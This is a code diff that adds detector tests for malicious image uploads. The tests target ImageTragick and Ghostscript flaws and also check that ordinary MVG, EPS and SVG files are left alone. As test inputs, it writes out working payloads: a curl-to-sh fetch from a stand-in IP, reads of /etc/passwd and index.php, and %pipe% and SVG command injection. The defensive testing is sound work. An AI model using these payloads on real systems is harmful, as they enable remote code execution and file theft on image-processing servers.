@@ -124,6 +124,34 @@ describe('multipart part names, spelt as lenient parsers (PHP among them) accept
   });
 });
 
+describe('image-converter exploits in uploads (ImageTragick, Ghostscript)', () => {
+  const uploaded = uploadMatches(1);
+
+  it('reads drawing commands or PostScript posing as an image, and an SVG, for a delegate pipe or a file coder', () => {
+    const mvg = (line: string): string => `push graphic-context\nviewbox 0 0 640 480\n${line}\npop graphic-context`;
+    expect(uploaded('poster.jpg', 'image/jpeg', mvg(`fill 'url(https://example.com/a.jpg"|curl -s "http://203.0.113.66/im.sh|sh)'`))).toContain(
+      'MaliciousUpload@upload',
+    );
+    expect(uploaded('x.png', 'image/png', mvg("image over 0,0 0,0 'ephemeral:/var/www/html/index.php'"))).toContain('MaliciousUpload@upload');
+    expect(uploaded('x.png', 'image/png', mvg("image over 0,0 0,0 'text:/etc/passwd'"))).toContain('MaliciousUpload@upload');
+    const eps = '%!PS\nuserdict /setpagedevice undef\nsave\nmark /OutputFile (%pipe%id > /tmp/x) currentdevice putdeviceprops';
+    expect(uploaded('scan.jpg', 'image/jpeg', eps)).toContain('MaliciousUpload@upload');
+    const svg =
+      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://example.com/a.jpg&quot;|id; &quot;" width="1" height="1"/></svg>';
+    expect(uploaded('avatar.svg', 'image/svg+xml', svg)).toContain('MaliciousUpload@upload');
+  });
+
+  it('leaves ordinary drawings, PostScript and SVG images alone', () => {
+    expect(uploaded('chart.mvg', 'image/x-mvg', 'push graphic-context\nviewbox 0 0 100 100\nfill red\ncircle 50,50 20,20\npop graphic-context')).toEqual([]);
+    expect(
+      uploaded('doc.eps', 'application/postscript', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 10 10 moveto 90 90 lineto stroke\nshowpage'),
+    ).toEqual([]);
+    const svg =
+      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://cdn.example.com/a.png" width="1" height="1"/><text>a | b</text></svg>';
+    expect(uploaded('logo.svg', 'image/svg+xml', svg)).toEqual([]);
+  });
+});
+
 describe('files written by HTTP itself (PUT, and WebDAV MOVE or COPY)', () => {
   const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
   let n = 0;
